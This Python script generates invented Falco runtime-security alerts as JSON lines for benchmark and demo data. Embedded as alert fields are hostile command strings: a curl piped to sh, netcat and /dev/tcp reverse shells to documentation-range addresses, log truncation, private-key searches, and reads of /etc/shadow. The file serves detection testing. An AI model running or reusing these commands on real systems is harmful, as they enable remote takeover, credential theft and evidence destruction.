"""Generate realistic, invented Falco alerts as JSON lines.

The alerts follow the layout of Falco 0.41 and later: sorted keys, an ISO 8601
output prefix, ``Message | key=value`` rule output with the container and pod
fields appended, and ``evt.time.iso8601`` in ``output_fields``. Rule names,
priorities, tags and field names match the falcosecurity/rules files. Hosts,
pods, users and addresses are invented; IP addresses come from the
documentation ranges 192.0.2.0/24, 198.51.100.0/24 and 203.0.113.0/24.

Usage: python bench/generate_alerts.py COUNT [--seed N] [--start ISO] > out.jsonl

The bundled demo data was written with
``python bench/generate_alerts.py 110 --seed 7 --sample > sample_alerts/falco_events.jsonl``.
"""

from __future__ import annotations

import argparse
import random
import sys
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import orjson

NS = 1_000_000_000


@dataclass(frozen=True)
class Workload:
    """A container (or the host itself) that processes run in."""

    host: str
    container_id: str
    name: str
    image: str | None
    tag: str | None
    pod: str | None
    namespace: str | None

    @property
    def on_host(self) -> bool:
        """True for processes outside any container."""
        return self.container_id == "host"


WORKLOADS = (
    Workload(
        "worker-01",
        "4f2a9c7e1b3d",
        "payments-api",
        "registry.example.com/payments/api",
        "1.14.2",
        "payments-api-7c9d8f6b5-x2kqp",
        "payments",
    ),
    Workload(
        "worker-01",
        "9b1e6d3c5a70",
        "nginx",
        "docker.io/library/nginx",
        "1.27.0",
        "frontend-5f7b9c8d4-7hzmn",
        "shop",
    ),
    Workload(
        "worker-02",
        "c3d8e1f4a692",
        "redis",
        "docker.io/library/redis",
        "7.2.5",
        "redis-cache-0",
        "data",
    ),
    Workload(
        "worker-02",
        "7e5b2a9d1c84",
        "runner",
        "registry.example.com/ci/runner",
        "3.1",
        "build-runner-6d8b5c7f9-q4wst",
        "ci",
    ),
    Workload(
        "worker-03",
        "2a6f4c8e0b19",
        "grafana",
        "docker.io/grafana/grafana",
        "11.1.0",
        "grafana-6f9c7d5b8-m8rtv",
        "monitoring",
    ),
    Workload(
        "worker-03",
        "5d0c7b3e9f21",
        "toolbox",
        "docker.io/library/busybox",
        "1.36",
        "debug-toolbox-84c6b7f5d-jw2lp",
        "default",
    ),
    Workload(
        "web-01",
        "e8a1f5c2d740",
        "legacy-app",
        "registry.example.com/legacy/app",
        "2.0.7",
        None,
        None,
    ),
)

HOST_WORKLOADS = tuple(
    Workload(host, "host", "host", None, None, None, None)
    for host in ("worker-01", "worker-02", "worker-03", "web-01")
)

K8S_AUDIT_HOST = "falco-k8saudit-7d9f8b6c5-pl2xz"
CLOUDTRAIL_HOST = "falco-cloudtrail-0"

STANDARD_LABELS = (
    ("evt_type", "evt.type"),
    ("user", "user.name"),
    ("user_uid", "user.uid"),
    ("user_loginuid", "user.loginuid"),
    ("process", "proc.name"),
    ("proc_exepath", "proc.exepath"),
    ("parent", "proc.pname"),
    ("command", "proc.cmdline"),
    ("terminal", "proc.tty"),
)

CONTAINER_LABELS = (
    ("container_id", "container.id"),
    ("container_name", "container.name"),
    ("container_image_repository", "container.image.repository"),
    ("container_image_tag", "container.image.tag"),
    ("k8s_pod_name", "k8s.pod.name"),
    ("k8s_ns_name", "k8s.ns.name"),
)

# rule -> (priority, tags), as in falcosecurity/rules (maturity tag included).
RULES = {
    "Terminal shell in container": (
        "Notice",
        ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
    ),
    "Read sensitive file untrusted": (
        "Warning",
        [
            "T1555",
            "container",
            "filesystem",
            "host",
            "maturity_stable",
            "mitre_credential_access",
        ],
    ),
    "Drop and execute new binary in container": (
        "Critical",
        [
            "PCI_DSS_11.5.1",
            "TA0003",
            "container",
            "maturity_stable",
            "mitre_persistence",
            "process",
        ],
    ),
    "PTRACE anti-debug attempt": (
        "Notice",
        [
            "T1622",
            "container",
            "host",
            "maturity_stable",
            "mitre_defense_evasion",
            "process",
        ],
    ),
    "Run shell untrusted": (
        "Notice",
        [
            "T1059.004",
            "container",
            "host",
            "maturity_stable",
            "mitre_execution",
            "process",
            "shell",
        ],
    ),
    "Search Private Keys or Passwords": (
        "Warning",
        [
            "T1552.001",
            "container",
            "filesystem",
            "host",
            "maturity_stable",
            "mitre_credential_access",
            "process",
        ],
    ),
    "Clear Log Activities": (
        "Warning",
        [
            "NIST_800-53_AU-10",
            "T1070",
            "container",
            "filesystem",
            "host",
            "maturity_stable",
            "mitre_defense_evasion",
        ],
    ),
    "Netcat Remote Code Execution in Container": (
        "Warning",
        [
            "T1059",
            "container",
            "maturity_stable",
            "mitre_execution",
            "network",
            "process",
        ],
    ),
    "Contact K8S API Server From Container": (
        "Notice",
        ["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
    ),
    "Redirect STDOUT/STDIN to Network Connection in Container": (
        "Notice",
        [
            "T1059",
            "container",
            "maturity_stable",
            "mitre_execution",
            "network",
            "process",
        ],
    ),
    "Attach/Exec Pod": ("Notice", ["k8s"]),
    "Create Privileged Pod": ("Warning", ["k8s"]),
    "Console Login Without MFA": (
        "Critical",
        ["aws", "aws_console", "aws_iam", "cloud"],
    ),
}


class Generator:
    """Build alerts from a seeded random source, so output is reproducible."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    # --- syscall rules ----------------------------------------------------

    def terminal_shell(self, work: Workload) -> tuple[str, list]:
        shell = self.rng.choice(["bash", "sh"])
        path = "/bin/busybox" if "busybox" in (work.image or "") else f"/bin/{shell}"
        pairs = self._standard(
            "execve",
            "root",
            0,
            -1,
            shell,
            path,
            self.rng.choice(["runc", "containerd-shim"]),
            self.rng.choice([shell, f"{shell} -il", f"{shell} -c id; uname -a"]),
            34816 + self.rng.randrange(4),
        )
        pairs.append(("exe_flags", "evt.arg.flags", "EXE_WRITABLE|EXE_LOWER_LAYER"))
        return "A shell was spawned in a container with an attached terminal", pairs

    def read_sensitive(self, work: Workload) -> tuple[str, list]:
        target = self.rng.choice(["/etc/shadow", "/etc/shadow", "/etc/sudoers"])
        tool = self.rng.choice(["cat", "python3", "head"])
        shell = "bash" if work.on_host else "sh"
        pairs = [
            ("file", "fd.name", target),
            ("gparent", "proc.aname[2]", "sshd" if work.on_host else "containerd-shim"),
            ("ggparent", "proc.aname[3]", "sshd" if work.on_host else None),
            ("gggparent", "proc.aname[4]", "systemd" if work.on_host else None),
        ]
        pairs += self._standard(
            "openat",
            "root",
            0,
            1001 if work.on_host else -1,
            tool,
            f"/usr/bin/{tool}",
            shell,
            f"{tool} {target}",
            34817 if work.on_host else 0,
        )
        return "Sensitive file opened for reading by non-trusted program", pairs

    def drop_and_execute(self, work: Workload, time_ns: int) -> tuple[str, list]:
        name = self.rng.choice(["kworkerd", "xmrig", "update.sh", "dbus-helper"])
        exe = f"/tmp/.cache/{name}"
        created = time_ns - self.rng.randrange(2, 40) * NS
        started = time_ns - self.rng.randrange(3600, 86400) * NS
        pairs = [
            ("proc_exe", "proc.exe", exe),
            ("proc_sname", "proc.sname", "sh"),
            ("gparent", "proc.aname[2]", "containerd-shim"),
            ("proc_exe_ino_ctime", "proc.exe_ino.ctime", created),
            ("proc_exe_ino_mtime", "proc.exe_ino.mtime", created),
            (
                "proc_exe_ino_ctime_duration_proc_start",
                "proc.exe_ino.ctime_duration_proc_start",
                time_ns - created - 1_000_000,
            ),
            ("proc_cwd", "proc.cwd", "/tmp/.cache/"),
            ("container_start_ts", "container.start_ts", started),
        ]
        pairs += self._standard(
            "execve",
            "root",
            0,
            -1,
            name[:15],
            exe,
            "sh",
            f"{name[:15]} --background",
            0,
        )
        pairs.append(("exe_flags", "evt.arg.flags", "EXE_WRITABLE|EXE_UPPER_LAYER"))
        return "Executing binary not part of base image", pairs

    def ptrace_anti_debug(self, work: Workload) -> tuple[str, list]:
        name = self.rng.choice(["svc-agent", "kdevtmpfsi"])
        pairs = [("proc_pcmdline", "proc.pcmdline", "sh -c /tmp/.cache/" + name)]
        pairs += self._standard(
            "ptrace", "root", 0, -1, name, f"/tmp/.cache/{name}", "sh", name, 0
        )
        return "Detected potential PTRACE_TRACEME anti-debug attempt", pairs

    def run_shell_untrusted(self, work: Workload) -> tuple[str, list]:
        parent = self.rng.choice(["node", "php-fpm", "java"])
        pairs = [
            ("parent_exe", "proc.pexe", f"/usr/local/bin/{parent}"),
            ("parent_exepath", "proc.pexepath", f"/usr/local/bin/{parent}"),
            ("pcmdline", "proc.pcmdline", f"{parent} server.js"),
            ("gparent", "proc.aname[2]", "containerd-shim"),
            ("ggparent", "proc.aname[3]", None),
            ("aname[4]", "proc.aname[4]", None),
            ("aname[5]", "proc.aname[5]", None),
            ("aname[6]", "proc.aname[6]", None),
            ("aname[7]", "proc.aname[7]", None),
        ]
        command = self.rng.choice(
            ["sh -c id", "sh -c curl -s http://203.0.113.45/x.sh | sh", "sh -c whoami"]
        )
        pairs += self._standard(
            "execve", "www-data", 33, -1, "sh", "/bin/sh", parent, command, 0
        )
        pairs.append(("exe_flags", "evt.arg.flags", "EXE_LOWER_LAYER"))
        return "Shell spawned by untrusted binary", pairs

    def search_keys(self, work: Workload) -> tuple[str, list]:
        command = self.rng.choice(
            [
                "grep -r BEGIN RSA PRIVATE /",
                "find / -name id_rsa",
                "grep -ri password /etc",
            ]
        )
        tool = command.split()[0]
        pairs = self._standard(
            "execve", "root", 0, -1, tool, f"/usr/bin/{tool}", "sh", command, 0
        )
        pairs.append(("exe_flags", "evt.arg.flags", "EXE_LOWER_LAYER"))
        return "Grep private keys or passwords activities found", pairs

    def clear_logs(self, work: Workload) -> tuple[str, list]:
        target = self.rng.choice(
            ["/var/log/auth.log", "/var/log/syslog", "/var/log/wtmp"]
        )
        pairs = [("file", "fd.name", target)]
        pairs += self._standard(
            "openat",
            "root",
            0,
            1001 if work.on_host else -1,
            "truncate",
            "/usr/bin/truncate",
            "bash",
            f"truncate -s 0 {target}",
            34817 if work.on_host else 0,
        )
        return "Log files were tampered", pairs

    def netcat(self, work: Workload) -> tuple[str, list]:
        command = f"nc -e /bin/sh 198.51.100.{self.rng.randrange(2, 250)} 4444"
        pairs = self._standard(
            "execve", "root", 0, -1, "nc", "/usr/bin/nc", "sh", command, 0
        )
        pairs.append(("exe_flags", "evt.arg.flags", "EXE_WRITABLE|EXE_LOWER_LAYER"))
        return "Netcat runs inside container that allows remote code execution", pairs

    def contact_api_server(self, work: Workload) -> tuple[str, list]:
        port = self.rng.randrange(32768, 60999)
        pairs = _connection_pairs("10.42.1.17", port, "10.43.0.1", 443)
        pairs += self._standard(
            "connect",
            "root",
            0,
            -1,
            "curl",
            "/usr/bin/curl",
            "sh",
            "curl -sk https://kubernetes.default.svc/api/v1/secrets",
            0,
        )
        return "Unexpected connection to K8s API Server from container", pairs

    def redirect_stdio(self, work: Workload) -> tuple[str, list]:
        address = f"203.0.113.{self.rng.randrange(2, 250)}"
        port = self.rng.randrange(32768, 60999)
        pairs = [
            ("gparent", "proc.aname[2]", "containerd-shim"),
            ("ggparent", "proc.aname[3]", None),
            ("gggparent", "proc.aname[4]", None),
            ("fd.sip", "fd.sip", address),
        ]
        pairs += _connection_pairs("10.42.2.9", port, address, 4444)
        pairs += self._standard(
            "dup2",
            "root",
            0,
            -1,
            "bash",
            "/bin/bash",
            "sh",
            f"bash -i >& /dev/tcp/{address}/4444 0>&1",
            0,
        )
        return "Redirect stdout/stdin to network connection", pairs

    def _standard(
        self, evt_type, user, uid, loginuid, name, exepath, parent, cmdline, tty
    ) -> list:
        values = (evt_type, user, uid, loginuid, name, exepath, parent, cmdline, tty)
        return [
            (label, field, value)
            for (label, field), value in zip(STANDARD_LABELS, values)
        ]

    # --- alert assembly ---------------------------------------------------

    def syscall_alert(self, rule: str, work: Workload, time_ns: int) -> dict:
        """Build one syscall alert for ``rule`` in workload ``work``."""
        builder = SYSCALL_BUILDERS[rule]
        if builder is Generator.drop_and_execute:
            message, pairs = builder(self, work, time_ns)
        else:
            message, pairs = builder(self, work)
        container_values = (
            work.container_id,
            work.name,
            work.image,
            work.tag,
            work.pod,
            work.namespace,
        )
        pairs += [
            (label, field, value)
            for (label, field), value in zip(CONTAINER_LABELS, container_values)
        ]
        return self._alert(rule, work.host, "syscall", time_ns, message, pairs, "|")

    def attach_exec(self, work: Workload, time_ns: int, user: str) -> dict:
        command = self.rng.choice(["sh", "bash", "cat /etc/os-release"])
        pairs = [
            ("user", "ka.user.name", user),
            ("pod", "ka.target.name", work.pod),
            ("resource", "ka.target.resource", "pods"),
            ("ns", "ka.target.namespace", work.namespace),
            ("action", "ka.target.subresource", "exec"),
            ("command", "ka.uri.param[command]", command),
        ]
        return self._alert(
            "Attach/Exec Pod",
            K8S_AUDIT_HOST,
            "k8s_audit",
            time_ns,
            "Attach/Exec to pod",
            pairs,
            "(",
        )

    def privileged_pod(self, time_ns: int) -> dict:
        pod = f"node-debugger-{self.rng.randrange(16**5):05x}"
        pairs = [
            ("user", "ka.user.name", "system:serviceaccount:ci:deployer"),
            ("pod", "ka.resp.name", pod),
            ("resource", "ka.target.resource", "pods"),
            ("ns", "ka.target.namespace", "ci"),
            ("images", "ka.req.pod.containers.image", "docker.io/library/alpine:3.20"),
            ("init_images", "ka.req.pod.initContainers.image", None),
            ("ephemeral_images", "ka.req.pod.ephemeralContainers.image", None),
        ]
        return self._alert(
            "Create Privileged Pod",
            K8S_AUDIT_HOST,
            "k8s_audit",
            time_ns,
            "Pod started with privileged container",
            pairs,
            "(",
        )

    def console_login(self, time_ns: int) -> dict:
        # CloudTrail records whole seconds.
        time_ns -= time_ns % NS
        pairs = [
            ("requesting user", "ct.user", "ops-admin"),
            ("requesting IP", "ct.srcip", f"198.51.100.{self.rng.randrange(2, 250)}"),
            ("AWS region", "ct.region", "eu-west-1"),
        ]
        return self._alert(
            "Console Login Without MFA",
            CLOUDTRAIL_HOST,
            "aws_cloudtrail",
            time_ns,
            "Detected a console login without MFA",
            pairs,
            "(,",
        )

    def _alert(self, rule, host, source, time_ns, message, pairs, style) -> dict:
        priority, tags = RULES[rule]
        text = " ".join(f"{label}={_text(value)}" for label, _, value in pairs)
        if style == "|":
            body = f"{message} | {text}"
        else:
            joiner = ", " if style == "(," else " "
            inner = joiner.join(f"{label}={_text(value)}" for label, _, value in pairs)
            body = f"{message} ({inner})"
        fields = {field: value for _, field, value in pairs}
        fields["evt.time.iso8601"] = time_ns
        return {
            "hostname": host,
            "output": f"{_iso_prefix(time_ns)}: {priority} {body}",
            "output_fields": dict(sorted(fields.items())),
            "priority": priority,
            "rule": rule,
            "source": source,
            "tags": tags,
            "time": _iso_time(time_ns),
        }

    # --- streams ----------------------------------------------------------

    def alerts(self, count: int, start_ns: int, span_s: int = 1800) -> list[dict]:
        """Return ``count`` alerts spread over ``span_s`` seconds from ``start_ns``."""
        times = sorted(start_ns + self.rng.randrange(span_s * NS) for _ in range(count))
        alerts: list[dict] = []
        while len(alerts) < count:
            alerts.extend(self._episode(times[len(alerts)]))
        alerts = alerts[:count]
        alerts.sort(key=lambda alert: alert["output_fields"]["evt.time.iso8601"])
        return alerts

    def _episode(self, time_ns: int) -> list[dict]:
        """Return one alert, or a short run of related alerts starting at ``time_ns``."""
        roll = self.rng.random()
        containers = [work for work in WORKLOADS if work.pod]
        if roll < 0.12:
            work = self.rng.choice(containers)
            user = self.rng.choice(["kubernetes-admin", "oidc:dev-lead"])
            shell_ns = time_ns + self.rng.randrange(200, 900) * 1_000_000
            return [
                self.attach_exec(work, time_ns, user),
                self.syscall_alert("Terminal shell in container", work, shell_ns),
            ]
        if roll < 0.15:
            return [self.privileged_pod(time_ns)]
        if roll < 0.17:
            return [self.console_login(time_ns)]

        rule = self.rng.choices(list(SYSCALL_BUILDERS), weights=SYSCALL_WEIGHTS)[0]
        tags = RULES[rule][1]
        candidates = containers if "k8s" in tags else list(WORKLOADS)
        if "host" in tags:
            # Rules tagged "host" also fire for processes outside containers.
            candidates += HOST_WORKLOADS
        return [self.syscall_alert(rule, self.rng.choice(candidates), time_ns)]


SYSCALL_BUILDERS = {
    "Terminal shell in container": Generator.terminal_shell,
    "Read sensitive file untrusted": Generator.read_sensitive,
    "Drop and execute new binary in container": Generator.drop_and_execute,
    "PTRACE anti-debug attempt": Generator.ptrace_anti_debug,
    "Run shell untrusted": Generator.run_shell_untrusted,
    "Search Private Keys or Passwords": Generator.search_keys,
    "Clear Log Activities": Generator.clear_logs,
    "Netcat Remote Code Execution in Container": Generator.netcat,
    "Contact K8S API Server From Container": Generator.contact_api_server,
    "Redirect STDOUT/STDIN to Network Connection in Container": Generator.redirect_stdio,
}
SYSCALL_WEIGHTS = (14, 10, 4, 3, 6, 4, 3, 3, 4, 3)


def _connection_pairs(local: str, lport: int, remote: str, rport: int) -> list:
    """Return the output pairs of an outbound IPv4 TCP connection."""
    return [
        ("connection", "fd.name", f"{local}:{lport}->{remote}:{rport}"),
        ("lport", "fd.lport", lport),
        ("rport", "fd.rport", rport),
        ("fd_type", "fd.type", "ipv4"),
        ("fd_proto", "fd.l4proto", "tcp"),
    ]


def _text(value: Any) -> str:
    """Render a value the way Falco prints it in the output text."""
    return "<NA>" if value is None else str(value)


def _iso_time(time_ns: int) -> str:
    seconds, nanos = divmod(time_ns, NS)
    moment = datetime.fromtimestamp(seconds, UTC)
    return f"{moment:%Y-%m-%dT%H:%M:%S}.{nanos:09d}Z"


def _iso_prefix(time_ns: int) -> str:
    return _iso_time(time_ns)[:-1] + "+0000"


# A PTRACE_ATTACH alert in the older "Message (key=value ...)" layout: root ran
# gdb -p 4242 from an interactive shell of login uid 1000 on host web-01. The
# tracer is gdb and the target is pid 4242, a case the analysis must explain.
PTRACE_ATTACH_ALERT = (
    '{"hostname":"web-01","output":"17:31:32.944887609: Warning Detected ptrace '
    "PTRACE_ATTACH attempt (proc_pcmdline=bash evt_type=ptrace user=root user_uid=0 "
    "user_loginuid=1000 process=gdb proc_exepath=/usr/bin/gdb parent=bash "
    "command=gdb -p 4242 terminal=34817 exe_flags=<NA> container_id=host "
    'container_name=host)","output_fields":{"container.id":"host",'
    '"container.name":"host","evt.type":"ptrace","proc.cmdline":"gdb -p 4242",'
    '"proc.exepath":"/usr/bin/gdb","proc.name":"gdb","proc.pcmdline":"bash",'
    '"proc.pname":"bash","proc.tty":34817,"user.loginuid":1000,"user.name":"root",'
    '"user.uid":0},"priority":"Warning","rule":"PTRACE attached to process",'
    '"source":"syscall","tags":["T1055.008","container","host","maturity_stable",'
    '"mitre_privilege_escalation","process"],"time":"2024-10-29T17:31:32.944887609Z"}'
)

# Falco's own log lines that share the stream with alerts in a container log.
STARTUP_LOG_LINES = (
    "2024-10-29T17:11:58+0000: Loading rules from:",
    "2024-10-29T17:11:58+0000:    /etc/falco/falco_rules.yaml | schema validation: ok",
    "2024-10-29T17:11:59+0000: Opening 'syscall' source with modern BPF probe.",
)


def drop_alert(host: str, time_ns: int, drops: int, events: int) -> dict:
    """Build Falco's internal syscall event drop alert (all counters are strings)."""
    counters = {
        "ebpf_enabled": "1",
        "n_drops": str(drops),
        "n_drops_buffer_total": str(drops),
        "n_drops_bug": "0",
        "n_drops_page_faults": "0",
        "n_drops_scratch_map": "0",
        "n_evts": str(events),
    }
    message = (
        f"Falco internal: syscall event drop. {drops} system calls dropped in last"
        " second."
    )
    return {
        "hostname": host,
        "output": message,
        "output_fields": counters,
        "priority": "Debug",
        "rule": "Falco internal: syscall event drop",
        "source": "internal",
        "time": _iso_time(time_ns),
    }


def sample_lines(count: int, seed: int, start_ns: int) -> list[str]:
    """Return the bundled demo stream: log lines, alerts and one drop alert."""
    alerts = Generator(seed).alerts(count, start_ns)
    drop_ns = start_ns + 754 * NS + 118_204_331
    alerts.append(drop_alert("worker-02", drop_ns, 1342, 98231))

    lines = [(_time_of(alert), encode(alert)) for alert in alerts]
    ptrace_ns = 1730223092944887609
    lines.append((ptrace_ns, PTRACE_ATTACH_ALERT))
    lines.sort(key=lambda pair: pair[0])
    return [*STARTUP_LOG_LINES, *(line for _, line in lines)]


def _time_of(alert: dict) -> int:
    seconds = datetime.fromisoformat(alert["time"][:19] + "+00:00").timestamp()
    return int(seconds) * NS + int(alert["time"][20:29])


def encode(alert: dict) -> str:
    """Encode an alert as one JSON line the way Falco writes it."""
    return orjson.dumps(alert).decode()


def main(argv: list[str] | None = None) -> int:
    """Write COUNT generated alerts to standard output as JSON lines."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("count", type=int, help="number of alerts to write")
    parser.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    parser.add_argument(
        "--start",
        default="2024-10-29T17:12:00Z",
        help="time of the first alert window, ISO 8601 UTC (default %(default)s)",
    )
    parser.add_argument(
        "--span", type=int, default=1800, help="window length in seconds (default 1800)"
    )
    parser.add_argument(
        "--sample",
        action="store_true",
        help="write the bundled demo stream: Falco log lines, the alerts, one"
        " drop alert and the example PTRACE_ATTACH alert",
    )
    args = parser.parse_args(argv)

    start = datetime.fromisoformat(args.start)
    start_ns = int(start.timestamp()) * NS
    if args.sample:
        lines = sample_lines(args.count, args.seed, start_ns)
    else:
        alerts = Generator(args.seed).alerts(args.count, start_ns, args.span)
        lines = [encode(alert) for alert in alerts]
    sys.stdout.write("".join(line + "\n" for line in lines))
    return 0


if __name__ == "__main__":
    sys.exit(main())
